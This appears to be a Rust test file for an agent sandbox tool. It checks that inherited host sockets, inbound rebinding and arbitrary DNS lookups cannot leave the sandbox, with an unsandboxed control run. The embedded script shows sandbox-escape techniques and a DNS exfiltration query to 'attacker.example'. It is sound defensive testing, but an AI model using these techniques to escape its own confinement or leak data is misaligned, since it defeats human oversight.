//! Host-network sockets handed to the agent (issue 13 class 1), attempted from inside `tyba
//! run --here --non-interactive --autonomy high` as root and as the unprivileged
//! `TYBA_TEST_USER`, the effect checked from outside (listeners of the test process in the
//! host's network namespace), with a control: the same script without the sandbox, whose
//! datagrams and connections do arrive (so the checks can fail).
//!
//! The agent program is `bash`: its own `/dev/udp` and `/dev/tcp` opens are the agent's
//! connections; the perl it starts is a command, inheriting what bash holds.
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "run_support.rs"]
mod support;

use std::ffi::OsString;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;
use support::*;

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

/// The name servers of `/etc/resolv.conf`.
fn nameservers() -> Vec<String> {
    read(Path::new("/etc/resolv.conf"))
        .lines()
        .filter_map(|l| l.trim().strip_prefix("nameserver"))
        .map(|v| v.trim().to_string())
        .filter(|v| v.parse::<std::net::IpAddr>().is_ok())
        .collect()
}

/// From datagram sockets the agent program itself connects (to the name server on port 53,
/// and to one of its hosts), a command it starts sends to the host's `127.0.0.1:$SINK`,
/// disconnects (`AF_UNSPEC`) and binds `127.0.0.1:$INBOUND` to receive; from a stream socket
/// to its host, the agent writes and a command writes on the inherited fd. Then raw DNS
/// queries to the name server: one for a name the agent has no business with.
const NET_SCRIPT: &str = r#"
R="$PWD/report"; mkdir -p "$R"
[ -n "$NS" ] && exec 3<>"/dev/udp/$NS/53"
exec 4<>"/dev/udp/127.0.0.1/$AGENT_UDP"
exec 5<>"/dev/tcp/127.0.0.1/$AGENT_TCP"
printf 'FROM-AGENT\n' >&5
perl -MSocket -e '
  for my $fd (3, 4) {
    open(my $s, "+<&=", $fd) or do { print "fd$fd: $!\n"; next };
    send($s, "ESCAPED-$fd", 0, pack_sockaddr_in($ENV{SINK}, inet_aton("127.0.0.1"))) ? print "sent $fd\n" : print "send $fd: $!\n";
  }
  my $t; if (open($t, ">&=", 5)) { syswrite($t, "FROM-CHILD\n") ? print "child wrote tcp\n" : print "write 5: $!\n" } else { print "fd5: $!\n" }
' > "$R/send"
R="$R" perl -MSocket -MIO::Select -e '
  open(my $s, "+<&=", 4) or die "fd4: $!";
  connect($s, pack("S x14", AF_UNSPEC));
  bind($s, pack_sockaddr_in($ENV{INBOUND}, inet_aton("127.0.0.1"))) or print "bind: $!\n";
  open(my $f, ">", "$ENV{R}/bound"); close($f);
  if (IO::Select->new($s)->can_read(6)) { recv($s, my $m, 100, 0); print "got $m\n" } else { print "nothing\n" }
' > "$R/inbound"
if [ -n "$NS" ]; then
NS="$NS" perl -MSocket -e '
  socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
  connect($s, pack_sockaddr_in(53, inet_aton($ENV{NS}))) or die "connect: $!";
  my $q = pack("n n n n n n", 0x4242, 0x0100, 1, 0, 0, 0);
  $q .= chr(length $_) . $_ for split /\./, "exfil-0123456789.attacker.example"; $q .= "\0" . pack("n n", 1, 1);
  send($s, $q, 0);
  my $rin = ""; vec($rin, fileno($s), 1) = 1;
  if (select($rin, undef, undef, 5)) { recv($s, my $a, 512, 0); printf "rcode %d\n", ord(substr($a, 3, 1)) & 15 } else { print "no answer\n" }
' > "$R/dns"
getent hosts "$RESOLVABLE" > "$R/getent"; echo "getent $?" >> "$R/getent"
fi
echo finished > "$R/finished"
"#;

fn net_suite(who: Who, tag: &str, bare: bool) {
    let Some(r) = sandbox_repo(&who, tag) else {
        return;
    };
    let sink = UdpSocket::bind("127.0.0.1:0").unwrap();
    sink.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let agent_udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let agent_tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let inbound_port = {
        let probe = UdpSocket::bind("127.0.0.1:0").unwrap();
        probe.local_addr().unwrap().port()
    };
    let ns = nameservers()
        .into_iter()
        .find(|n| n.parse::<std::net::Ipv4Addr>().is_ok());
    // A name the host resolves (when it resolves any), to show the agent's own hosts still
    // resolve inside.
    let resolvable = [
        "pypi.org",
        "crates.io",
        "registry.npmjs.org",
        "deb.debian.org",
    ]
    .into_iter()
    .find(|h| {
        std::process::Command::new("getent")
            .args(["hosts", h])
            .stdout(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    });
    let port = |s: &UdpSocket| s.local_addr().unwrap().port().to_string();
    let mut extra: Vec<(&str, OsString)> = vec![
        ("SINK", port(&sink).into()),
        ("AGENT_UDP", port(&agent_udp).into()),
        (
            "AGENT_TCP",
            agent_tcp.local_addr().unwrap().port().to_string().into(),
        ),
        ("INBOUND", inbound_port.to_string().into()),
        ("RESOLVABLE", resolvable.unwrap_or("localhost").into()),
    ];
    if let Some(ns) = &ns {
        extra.push(("NS", ns.into()));
    }
    let env = base_env(&r.home, &extra);
    let agent_udp_host = format!("127.0.0.1:{}", port(&agent_udp));
    let agent_tcp_host = format!("127.0.0.1:{}", agent_tcp.local_addr().unwrap().port());
    let mut args = vec![
        "run",
        "--here",
        "--non-interactive",
        "--autonomy",
        "high",
        "--allow-host",
        &agent_udp_host,
        "--allow-host",
        &agent_tcp_host,
    ];
    if let Some(h) = resolvable {
        args.extend(["--allow-host", h]);
    }
    args.extend(["--", "bash", "-c", NET_SCRIPT]);

    // The agent's TCP peer: what arrives on the one connection.
    agent_tcp.set_nonblocking(true).unwrap();
    let tcp_got = std::thread::spawn(move || {
        let deadline = std::time::Instant::now() + Duration::from_secs(90);
        while std::time::Instant::now() < deadline {
            if let Ok((mut c, _)) = agent_tcp.accept() {
                c.set_nonblocking(false).unwrap();
                c.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
                let mut got = String::new();
                let _ = c.read_to_string(&mut got);
                return got;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        String::new()
    });
    let report = r.wt.join("report");
    // Sends to the agent's would-be inbound port while it waits.
    let knock = {
        let report = report.clone();
        std::thread::spawn(move || {
            let s = UdpSocket::bind("127.0.0.1:0").unwrap();
            for _ in 0..200 {
                if report.join("bound").exists() {
                    for _ in 0..10 {
                        let _ = s.send_to(b"FROM-OUTSIDE", ("127.0.0.1", inbound_port));
                        std::thread::sleep(Duration::from_millis(100));
                    }
                    return;
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        })
    };
    let stderr = if bare {
        let mut c = command_as(&who, Path::new("/bin/bash"));
        c.arg("-c")
            .arg(NET_SCRIPT)
            .current_dir(&r.wt)
            .env_clear()
            .stdin(Stdio::null());
        for (k, v) in &env {
            c.env(k, v);
        }
        String::from_utf8_lossy(&c.output().unwrap().stderr).into_owned()
    } else {
        String::from_utf8_lossy(&run_tyba(&who, &r.tyba, &r.wt, &env, &args).stderr).into_owned()
    };
    knock.join().unwrap();
    let tcp = tcp_got.join().unwrap();
    let mut sunk = Vec::new();
    let mut buf = [0u8; 100];
    while let Ok((n, _)) = sink.recv_from(&mut buf) {
        sunk.push(String::from_utf8_lossy(&buf[..n]).into_owned());
    }
    let send = read(&report.join("send"));
    let inbound = read(&report.join("inbound"));
    let mut c = Checks::default();
    c.check(
        read(&report.join("finished")).trim() == "finished",
        format!("the script ran: {stderr}"),
    );
    c.check(
        tcp.contains("FROM-AGENT"),
        format!("the agent's own stream to its host works: {tcp:?} / {stderr}"),
    );
    if bare {
        // Control: without the sandbox every datagram and the inherited stream arrive.
        c.check(
            sunk.iter().any(|m| m == "ESCAPED-4")
                && (ns.is_none() || sunk.iter().any(|m| m == "ESCAPED-3")),
            format!("control: datagrams reach the host: {sunk:?} / {send}"),
        );
        c.check(
            inbound.contains("got FROM-OUTSIDE"),
            format!("control: the rebound socket receives from outside: {inbound}"),
        );
        c.check(
            tcp.contains("FROM-CHILD"),
            format!("control: a child writes on the inherited stream: {tcp:?} / {send}"),
        );
    } else {
        c.check(
            sunk.is_empty(),
            format!("no datagram of the sandbox reaches the host: {sunk:?} / {send}"),
        );
        c.check(
            !inbound.contains("got FROM-OUTSIDE"),
            format!("nothing from outside reaches a socket the sandbox binds: {inbound}"),
        );
        c.check(
            !tcp.contains("FROM-CHILD"),
            format!("the agent's host stream is not inherited by its commands: {tcp:?} / {send}"),
        );
        if ns.is_some() {
            let dns = read(&report.join("dns"));
            c.check(
                dns.trim() == "rcode 5",
                format!("a query for another name is refused by the relay: {dns:?} / {stderr}"),
            );
            if resolvable.is_some() {
                let g = read(&report.join("getent"));
                c.check(
                    g.contains("getent 0"),
                    format!("the agent's own host still resolves inside: {g:?} / {stderr}"),
                );
            }
        }
    }
    c.finish(tag);
}

#[test]
fn no_host_datagram_socket_reaches_the_sandbox_as_root_or_self() {
    net_suite(Who::Me, "net-me", false);
}

#[test]
fn no_host_datagram_socket_reaches_the_sandbox_as_unprivileged_user() {
    let Some(who) = unprivileged() else { return };
    if who == Who::Me {
        return;
    }
    net_suite(who, "net-user", false);
}

#[test]
fn without_the_sandbox_the_same_sockets_escape_as_root_or_self() {
    net_suite(Who::Me, "net-bare-me", true);
}

#[test]
fn without_the_sandbox_the_same_sockets_escape_as_unprivileged_user() {
    let Some(who) = unprivileged() else { return };
    if who == Who::Me {
        return;
    }
    net_suite(who, "net-bare-user", true);
}
